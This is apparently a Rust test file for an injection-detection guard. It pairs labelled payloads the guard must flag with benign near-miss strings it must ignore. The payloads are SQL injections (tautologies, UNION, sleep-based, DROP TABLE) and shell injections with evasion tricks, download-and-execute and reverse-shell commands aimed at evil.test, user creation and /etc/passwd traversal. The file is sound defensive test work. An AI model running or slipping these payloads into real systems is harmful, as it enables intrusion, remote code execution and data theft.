//! Payloads by the grammar of the attack, beyond the first table, and near misses of each form.

use crate::cases::{assert_clean, assert_found};
use crate::engine;

const SQL: &[(&str, &str)] = &[
    ("sql_tautology", "' or ''-'"),
    ("sql_tautology", "') or ('x')=('x"),
    ("sql_tautology", "or 1=1"),
    ("sql_tautology", "user=x or 4=4#"),
    ("sql_tautology", "ann' AND '1'='2"),
    ("sql_tautology", "5 and 1=2--"),
    ("sql_tautology", "-1'or'1'='1"),
    ("sql_tautology", "1'and'1'='1"),
    ("sql_tautology", "-1/**/or/**/1=1"),
    ("sql_stacked", "bob'--"),
    ("sql_stacked", "id=x'/*"),
    ("sql_stacked", "admin\" #"),
    ("sql_stacked", "7' order by 12--"),
    ("sql_stacked", "x; DROP TABLE users;--"),
    ("sql_union", "' UNION ALL SELECT 'a', 'b"),
    ("sql_union", "-1 union(select 1,2)"),
    ("sql_union", "1%20union%20select%20group_concat(a)"),
    ("sql_delay", "'&&sleep(7)&&'1"),
    ("sql_delay", "1 order by sleep(4)"),
    ("sql_delay", "sleep(3)#"),
    ("sql_delay", "1;dbms_lock.sleep(5)"),
    (
        "sql_answer",
        "1 and extractvalue(1, concat(0x7e, version()))",
    ),
    ("sql_answer", "convert(int, @@version)"),
    ("sql_answer", "1 and ascii(substr(user(),1,1))>64"),
    ("sql_answer", "' and (select count(*) from users) > 0--"),
    ("sql_answer", "load_file(concat('\\\\\\\\', x))"),
    ("sql_answer", "exec master..xp_dirtree '\\\\host\\x'"),
];

const SHELL: &[(&str, &str)] = &[
    ("shell_command", "10.0.0.1 | ls -la /"),
    ("shell_command", "; id"),
    ("shell_command", "||/usr/bin/id|"),
    ("shell_command", "*; ls -l /var"),
    ("shell_command", "<!--#exec cmd=\"id\"-->"),
    ("shell_command", "$(`ls`)"),
    ("shell_command", ";system('id')"),
    ("shell_command", "{${phpinfo()}}"),
    ("shell_command", "host=a.test&&dir"),
    ("shell_command", "x=1%0acat%20/etc/hosts"),
    ("shell_command", "tac${IFS}notes"),
    ("shell_command", "{cat,/etc/hosts}"),
    ("shell_command", "tac</etc/hosts"),
    ("shell_command", "a $(sleep 9)"),
    ("shell_command", "«w'h'oami»"),
    ("shell_command", "run «c\\a\\t» now"),
    ("shell_command", "«who$@ami»"),
    ("shell_command", "/???/??t x"),
    ("shell_command", "tac ${PATH:0:1}etc"),
    ("shell_command", "dir%PROGRAMFILES:~10,-5%x"),
    ("shell_command", "$'uname\\x20-a'"),
    ("shell_command", "echo aWQ= | base64 -d | sh"),
    ("shell_command", "ssh -oProxyCommand=\"touch /tmp/x\" h"),
    ("shell_command", "tar --checkpoint-action=exec=sh"),
    ("shell_command", "nslookup $(whoami).evil.test"),
    (
        "shell_command",
        "if [ $(whoami|cut -c1) == r ]; then sleep 5; fi",
    ),
    ("shell_command", "() { :;}; echo x"),
    ("shell_command", "cmd.exe /c whoami"),
    ("shell_command", "net user eve pw1 /add"),
    (
        "shell_download",
        "certutil -urlcache -f http://evil.test/a a.exe",
    ),
    ("shell_download", "bash <(curl -s http://evil.test/a)"),
    ("shell_download", "mshta http://evil.test/a.hta"),
    (
        "shell_download",
        "powershell -w hidden -c \"irm http://evil.test/a | iex\"",
    ),
    ("reverse_shell", "telnet evil.test 4444 | /bin/sh"),
    (
        "reverse_shell",
        "php -r '$s=fsockopen(\"evil.test\",4444);exec(\"sh <&3\");'",
    ),
    (
        "reverse_shell",
        "perl -e 'use Socket;$i=\"h\";socket(S,PF_INET,1,6);inet_aton($i)'",
    ),
    (
        "path_traversal",
        "page=php://filter/convert.base64-encode/resource=index",
    ),
    ("path_traversal", "?f=/etc/passwd"),
    ("path_traversal", "..;/..;/WEB-INF/web.xml"),
    ("template_expression", "${T(java.lang.Runtime).x}"),
    (
        "template_expression",
        "{% for c in [].__class__.__base__ %}",
    ),
];

#[test]
fn every_form_of_a_payload_is_found() {
    let guard = engine().guard("sql_shell_injection").expect("the guard");
    assert_found(guard, SQL);
    assert_found(guard, SHELL);
}

#[test]
fn near_misses_of_every_form_are_left_alone() {
    let guard = engine().guard("sql_shell_injection").expect("the guard");
    assert_clean(
        guard,
        &[
            "It is 5 or 6 = a guess, 1=1 is true; and 2 = 2 as well, or so.",
            "x = 'abc' # a comment\ny = 'abc' -- and more\nprint('it') /* see */",
            "It's 5 o'clock -- I forget. The boys' # of goals; the dogs' -- all of them",
            "SELECT a FROM t ORDER BY 2; SELECT b FROM t GROUP BY 1 HAVING count(*) = 1",
            "time.sleep(5) # wait; sleep(5) blocks; usleep(10); sleep(2)  # a while",
            "CREATE TABLE a (b int); DROP TABLE a; INSERT INTO a VALUES (1); UPDATE a SET b = 2;",
            "WHERE a.id = b.id AND EXTRACT(year FROM d) = 2026 AND lower(name) = 'ann'",
            "cd src && ls -la; make; sleep 5; docker compose up -d && docker ps; ./x.sh; id=3",
            "| id | name | host |\n| ls | lists | a |",
            "x = 5; id = 3; for i in 1 2 3; do echo $i; done; cat notes.txt | grep foo",
            "docker run -v $(pwd):/x a; export V=$(git rev-parse HEAD); `sleep 5` waits",
            "OLDIFS=$IFS; IFS=$OLDIFS; while IFS= read -r l; do echo; done; {a,b}.txt {cat, dog}",
            "don't can't it's rock'n'roll \"cat\" 'cat' ['cat'] c:\\cats\\ping_x \\cat \\sleep{1}",
            "printf $'\\x1b[31mred\\x1b[0m'; \"${HOME}/x\"; ${PATH}; %PATH%; what is /??? here",
            "base64 -d file > out; ssh -o ProxyCommand=\"ssh -W %h:%p gate\" host; ping example.org",
            "function () { return 1; } () => {}; net user guide; certutil -hashfile a SHA256",
            "https://a.test/?next=/etc; see /etc/passwd for users; php://input is read once",
            "{% for item in items %}{{ item.name }}{% endfor %} ${price * 2} #{user.name}",
        ],
    );
}
